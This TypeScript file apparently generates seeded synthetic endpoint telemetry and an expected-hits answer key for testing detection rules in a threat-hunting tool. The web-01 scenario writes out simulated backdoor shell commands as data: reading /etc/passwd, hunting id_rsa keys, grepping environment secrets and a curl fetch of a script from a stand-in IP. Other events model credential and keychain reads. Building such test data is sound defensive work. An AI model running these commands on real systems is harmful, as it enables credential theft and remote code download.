/**
 * Writes samples/: demo evidence for four hosts (two macOS, two Linux) in four export shapes,
 * with true positives and near-miss decoys for every bundled rule. Seeded and deterministic:
 * `npm run samples` reproduces the committed files byte for byte.
 *
 *   node --import tsx scripts/generate-samples.ts [--out DIR]
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { background, bootHost, type Doc } from './gen/activity.js';
import { fileEvent, processEvent } from './gen/documents.js';
import { makeHost } from './gen/hosts.js';
import { Rng } from './gen/prng.js';
import { ProcessTree } from './gen/process-tree.js';

const outArg = process.argv.indexOf('--out');
const OUT = path.resolve(outArg >= 0 ? process.argv[outArg + 1] : 'samples');
const rng = new Rng(20261120);
const T0 = Date.UTC(2026, 10, 20, 8, 0, 0);
const T1 = Date.UTC(2026, 10, 21, 20, 0, 0);
const min = 60_000;
const hour = 60 * min;

const RULES = {
  newTerms: 'First Time Python Accessed Sensitive Credential Files',
  systemKey: 'SystemKey Access via Command Line',
  shell: 'Suspicious Python Shell Command Execution',
  siteCustomize: 'Python Site or User Customize File Creation',
};

/** What the generator means each planted event to be; written to samples/.expected-hits.json. */
interface Plant {
  doc: Doc;
  rule: string;
  hit: boolean;
  why: string;
  /** ES|QL aggregate: the group key the rule should report (only on one event of the group). */
  group?: string;
}

interface HostOut {
  dir: string;
  file: string;
  shape: 'ndjson-gz' | 'ndjson' | 'hits-ndjson' | 'search-json';
  docs: Doc[];
  plants: Plant[];
}

function mac01(): HostOut {
  const h = makeHost(rng, 'mac-01', 'macos', 'alice');
  const tree = new ProcessTree(rng, h);
  const roots = bootHost(tree, T0);
  const docs = background(tree, rng, roots, T0, T1, 700);
  const plants: Plant[] = [];
  const shell = roots.shells[0];
  // A malicious model file loaded by python reads credentials (new_terms: first time per host+path).
  const t = T0 + 26 * hour + 17 * min;
  const py = tree.spawn(shell, '/opt/homebrew/bin/python3', ['python3', 'load_model.py', 'model.pt'], t);
  docs.push(processEvent(tree, py, 'start', t, rng));
  const ssh = fileEvent(tree, py, 'open', ['access'], '/Users/alice/.ssh/id_rsa', t + 4_000, rng);
  const aws = fileEvent(tree, py, 'open', ['access'], '/Users/alice/.aws/credentials', t + 4_500, rng);
  const again = fileEvent(tree, py, 'open', ['access'], '/Users/alice/.ssh/id_rsa', t + 2 * hour, rng);
  plants.push(
    { doc: ssh, rule: RULES.newTerms, hit: true, why: 'python3 opens ~/.ssh/id_rsa: first time for host + path' },
    { doc: aws, rule: RULES.newTerms, hit: true, why: 'python3 opens ~/.aws/credentials: first time for host + path' },
    { doc: again, rule: RULES.newTerms, hit: false, why: 'same host + path two hours later: not new' },
  );
  // Decoys: "Python" (KQL matching is case-sensitive), and a write rather than an open.
  const Py = tree.spawn(shell, '/Applications/Python.app/Contents/MacOS/Python', ['Python', 'backup.py'], t - 3 * hour);
  const capital = fileEvent(tree, Py, 'open', ['access'], '/Users/alice/.kube/config', t - 3 * hour + 1000, rng);
  const modify = fileEvent(tree, py, 'modification', ['change'], '/Users/alice/.netrc', t + 6_000, rng);
  plants.push(
    { doc: capital, rule: RULES.newTerms, hit: false, why: 'process.name "Python": python* is case-sensitive' },
    { doc: modify, rule: RULES.newTerms, hit: false, why: 'event.action modification, not open' },
  );
  // SystemKey: reading the keychain master key from a shell.
  const ts = T0 + 30 * hour + 2 * min;
  const xxd = tree.spawn(shell, '/usr/bin/xxd', ['xxd', '/private/var/db/SystemKey'], ts);
  const sk = processEvent(tree, xxd, 'start', ts, rng);
  const endpoint = tree.spawn(roots.daemons[0], '/bin/cat', ['cat', '/var/db/SystemKey'], ts - 5 * hour);
  const skDecoy = processEvent(tree, endpoint, 'start', ts - 5 * hour, rng, {
    Ext: { effective_parent: { executable: '/Library/Elastic/Endpoint/elastic-endpoint.app/Contents/MacOS/elastic-endpoint', name: 'elastic-endpoint' } },
  });
  const bak = tree.spawn(shell, '/bin/cp', ['cp', '/private/var/db/SystemKey.bak', '/tmp/'], ts + 10 * min);
  const skBak = processEvent(tree, bak, 'start', ts + 10 * min, rng);
  plants.push(
    { doc: sk, rule: RULES.systemKey, hit: true, why: 'xxd reads /private/var/db/SystemKey' },
    { doc: skDecoy, rule: RULES.systemKey, hit: false, why: 'effective parent is the Elastic Endpoint itself (excluded)' },
    { doc: skBak, rule: RULES.systemKey, hit: false, why: 'argument is SystemKey.bak, not the SystemKey path' },
  );
  docs.push(...plants.map((p) => p.doc));
  return { dir: 'mac-01', file: 'endpoint-events.ndjson.gz', shape: 'ndjson-gz', docs, plants };
}

function mac02(): HostOut {
  const h = makeHost(rng, 'mac-02', 'macos', 'bob');
  const tree = new ProcessTree(rng, h);
  const roots = bootHost(tree, T0);
  const docs = background(tree, rng, roots, T0, T1, 260);
  const t = T0 + 9 * hour + 41 * min;
  const py = tree.spawn(roots.shells[0], '/usr/bin/python3.11', ['python3.11', '-m', 'pip', 'install', 'requests-toolkit'], t);
  docs.push(processEvent(tree, py, 'start', t, rng));
  const kc = fileEvent(tree, py, 'open', ['access'], '/Users/bob/Library/Keychains/login.keychain-db', t + 9_000, rng);
  const plants: Plant[] = [{ doc: kc, rule: RULES.newTerms, hit: true, why: 'a pip-installed package opens the login keychain' }];
  docs.push(kc);
  return { dir: 'mac-02', file: 'events.ndjson', shape: 'ndjson', docs, plants };
}

function linux01(): HostOut {
  const h = makeHost(rng, 'web-01', 'linux', 'deploy');
  const tree = new ProcessTree(rng, h);
  const roots = bootHost(tree, T0);
  const docs = background(tree, rng, roots, T0, T1, 240);
  const plants: Plant[] = [];
  const shell = roots.shells[0];
  // A python backdoor drives sh -c in quick succession: 6 distinct command lines, 4 patterns, one minute.
  const t = Date.UTC(2026, 10, 21, 3, 12, 5);
  const py = tree.spawn(shell, '/usr/bin/python3', ['python3', '/tmp/.cache/agent.py'], t - 30_000);
  docs.push(processEvent(tree, py, 'start', t - 30_000, rng));
  const cmds = ['whoami', 'uname -a', 'cat /etc/passwd | grep sh$', 'find / -name id_rsa -type f', 'curl -s http://203.0.113.7/s.sh', 'env | grep -i key'];
  cmds.forEach((c, i) => {
    const sh = tree.spawn(py, '/usr/bin/sh', ['sh', '-c', c], t + i * 7_000);
    const doc = processEvent(tree, sh, 'start', t + i * 7_000, rng);
    plants.push({ doc, rule: RULES.shell, hit: i === 0, group: i === 0 ? py.entityId : undefined, why: i === 0 ? `six sh -c commands from one python parent within a minute (${cmds.length} distinct, 4 patterns)` : 'part of the same burst' });
  });
  // Decoy: the same commands, but one per minute: never 5 in one window.
  const t2 = Date.UTC(2026, 10, 21, 5, 0, 10);
  const py2 = tree.spawn(shell, '/usr/bin/python3', ['python3', 'manage.py', 'healthcheck'], t2 - 10_000);
  cmds.forEach((c, i) => {
    const sh = tree.spawn(py2, '/usr/bin/sh', ['sh', '-c', c], t2 + i * 61_000);
    plants.push({ doc: processEvent(tree, sh, 'start', t2 + i * 61_000, rng), rule: RULES.shell, hit: false, why: 'same commands spread over six minutes: no one-minute window has five' });
  });
  // EQL: a dropper plants sitecustomize.py (runs in every python process).
  const te = Date.UTC(2026, 10, 21, 3, 20, 0);
  const dropper = tree.spawn(py, '/tmp/.cache/kworker', ['/tmp/.cache/kworker'], te - 2000);
  const site = fileEvent(tree, dropper, 'creation', ['creation'], '/usr/lib/python3.10/sitecustomize.py', te, rng);
  const pip = tree.spawn(shell, '/usr/bin/pip3', ['pip3', 'install', 'sitecustomize-helper'], te + hour);
  const pipDoc = fileEvent(tree, pip, 'creation', ['creation'], '/usr/local/lib/python3.10/dist-packages/sitecustomize.py', te + hour, rng);
  const pyself = tree.spawn(shell, '/usr/bin/python3.10', ['python3.10', '-m', 'site'], te + 2 * hour);
  const pySelfDoc = fileEvent(tree, pyself, 'creation', ['creation'], '/usr/lib/python3.10/sitecustomize.py', te + 2 * hour, rng);
  const pyc = fileEvent(tree, dropper, 'creation', ['creation'], '/usr/lib/python3.10/__pycache__/sitecustomize.cpython-310.pyc', te + 500, rng);
  plants.push(
    { doc: site, rule: RULES.siteCustomize, hit: true, why: 'an unknown binary creates /usr/lib/python3.10/sitecustomize.py' },
    { doc: pipDoc, rule: RULES.siteCustomize, hit: false, why: 'written by /usr/bin/pip3 (excluded)' },
    { doc: pySelfDoc, rule: RULES.siteCustomize, hit: false, why: 'written by /usr/bin/python3.10 (excluded by like~ "/usr/bin/python*")' },
    { doc: pyc, rule: RULES.siteCustomize, hit: false, why: 'a .pyc under __pycache__: path does not match' },
  );
  docs.push(...plants.map((p) => p.doc));
  return { dir: 'linux-01', file: 'elasticdump.ndjson', shape: 'hits-ndjson', docs, plants };
}

function linux02(): HostOut {
  const h = makeHost(rng, 'build-02', 'linux', 'ci');
  const tree = new ProcessTree(rng, h);
  const roots = bootHost(tree, T0);
  const docs = background(tree, rng, roots, T0, T1, 180);
  const shell = roots.shells[0];
  const te = Date.UTC(2026, 10, 20, 14, 3, 0);
  const mv = tree.spawn(shell, '/usr/bin/mv', ['mv', '/tmp/u.py', '/opt/App/lib/Python3.9/SiteCustomize.py'], te);
  const renamed = fileEvent(tree, mv, 'rename', ['change'], '/opt/App/lib/Python3.9/SiteCustomize.py', te, rng);
  const deleted = fileEvent(tree, mv, 'deletion', ['deletion'], '/home/ci/.config/python/usercustomize.py', te + 5 * min, rng);
  const py = tree.spawn(shell, '/usr/bin/python3', ['python3', 'steal.py'], te + hour);
  const keyRead = fileEvent(tree, py, 'open', ['access'], '/home/ci/.ssh/id_ed25519', te + hour + 1000, rng);
  const plants: Plant[] = [
    { doc: renamed, rule: RULES.siteCustomize, hit: false, why: 'event.type is "change" for a rename here: the rule wants event.type creation or rename' },
    { doc: deleted, rule: RULES.siteCustomize, hit: false, why: 'a deletion, not a creation' },
    { doc: keyRead, rule: RULES.newTerms, hit: false, why: 'python reads an SSH key, but on Linux: the rule is macOS-only' },
  ];
  // Same rename with event.type "rename" (how Defend types renames on Linux): a true positive,
  // and like~ matches the mixed-case path.
  const renamed2 = fileEvent(tree, mv, 'rename', ['rename'], '/opt/App/lib/Python3.9/SiteCustomize.py', te + 1000, rng);
  plants.push({ doc: renamed2, rule: RULES.siteCustomize, hit: true, why: 'rename into /opt/*/lib/python*/sitecustomize.py (case-insensitive like~)' });
  docs.push(...plants.map((p) => p.doc));
  return { dir: 'linux-02', file: 'search-export.json', shape: 'search-json', docs, plants };
}

/** Real collections are not globally sorted: write time-sorted blocks in a shuffled order. */
function interleave(docs: Doc[]): Doc[] {
  const sorted = [...docs].sort((a, b) => String(a['@timestamp']).localeCompare(String(b['@timestamp'])));
  const n = 5;
  const size = Math.ceil(sorted.length / n);
  const blocks = Array.from({ length: n }, (_, i) => sorted.slice(i * size, (i + 1) * size));
  return [2, 0, 4, 1, 3].flatMap((i) => blocks[i]);
}

function indexOf(doc: Doc): string {
  const ds = (doc.data_stream as { dataset: string }).dataset;
  return `.ds-logs-${ds}-default-2026.11.20-000001`;
}

function write(host: HostOut): { file: string; lineOf: Map<Doc, number> } {
  const docs = interleave(host.docs);
  const dir = path.join(OUT, host.dir);
  mkdirSync(dir, { recursive: true });
  const file = path.join(dir, host.file);
  const lineOf = new Map<Doc, number>();
  let body: string;
  if (host.shape === 'search-json') {
    const hits = docs.map((d, i) => {
      lineOf.set(d, i);
      return { _index: indexOf(d), _id: `b2-${String(i).padStart(5, '0')}`, _score: null, _source: d };
    });
    body = `${JSON.stringify({ took: 41, timed_out: false, _shards: { total: 3, successful: 3, skipped: 0, failed: 0 }, hits: { total: { value: hits.length, relation: 'eq' }, max_score: null, hits } }, null, 1)}\n`;
  } else {
    body = docs
      .map((d, i) => {
        lineOf.set(d, i + 1);
        return JSON.stringify(host.shape === 'hits-ndjson' ? { _index: indexOf(d), _id: `w1-${String(i).padStart(5, '0')}`, _score: 1, _source: d } : d);
      })
      .join('\n');
    body += '\n';
  }
  writeFileSync(file, host.shape === 'ndjson-gz' ? gzipSync(body, { level: 9 }) : body);
  return { file, lineOf };
}

function main(): void {
  const hosts = [mac01(), mac02(), linux01(), linux02()];
  const expected: unknown[] = [];
  const table: string[] = [];
  for (const host of hosts) {
    const { file, lineOf } = write(host);
    const rel = path.relative(OUT, file);
    for (const p of host.plants) {
      const line = lineOf.get(p.doc);
      const ts = String(p.doc['@timestamp']);
      table.push(`| ${p.rule} | ${p.hit ? '**hit**' : 'decoy'} | ${host.dir} | \`${rel}:${line}\` | ${ts} | ${p.why} |`);
      if (p.hit) expected.push({ rule: p.rule, host: (p.doc.host as { name: string }).name, file: rel, line, ...(p.group ? { group: p.group } : {}) });
    }
  }
  writeFileSync(path.join(OUT, '.expected-hits.json'), `${JSON.stringify(expected, null, 2)}\n`);
  writeFileSync(path.join(OUT, 'README.md'), readme(table));
}

function readme(table: string[]): string {
  return `# samples/

Demo evidence for \`npm start\` (\`trawl hunt samples/\`): four hosts, two days (2026-11-20/21),
Elastic Defend-shaped documents (process, file, network events with real process trees,
entity ids and ancestry). Generated — do not edit by hand; regenerate with \`npm run samples\`
(seeded: the output is byte-identical).

| host | file | shape |
|---|---|---|
| mac-01 (macOS) | \`mac-01/endpoint-events.ndjson.gz\` | NDJSON of bare documents, gzip |
| mac-02 (macOS) | \`mac-02/events.ndjson\` | NDJSON of bare documents |
| web-01 (Linux) | \`linux-01/elasticdump.ndjson\` | NDJSON of Elasticsearch hits (\`_index\` is a data-stream backing index) |
| build-02 (Linux) | \`linux-02/search-export.json\` | a \`_search\` response (line = 0-based hit index) |

Files are written in shuffled time blocks, like real collections: trawl must order events itself.

## Planted events

Every bundled rule has true positives and near-miss decoys. \`.expected-hits.json\` (a dotfile, so directory walks never read it as evidence) lists the hits
\`trawl hunt samples/\` must report (the hunt tests assert them exactly).

| rule | | host | where | @timestamp | why |
|---|---|---|---|---|---|
${table.join('\n')}
`;
}

main();
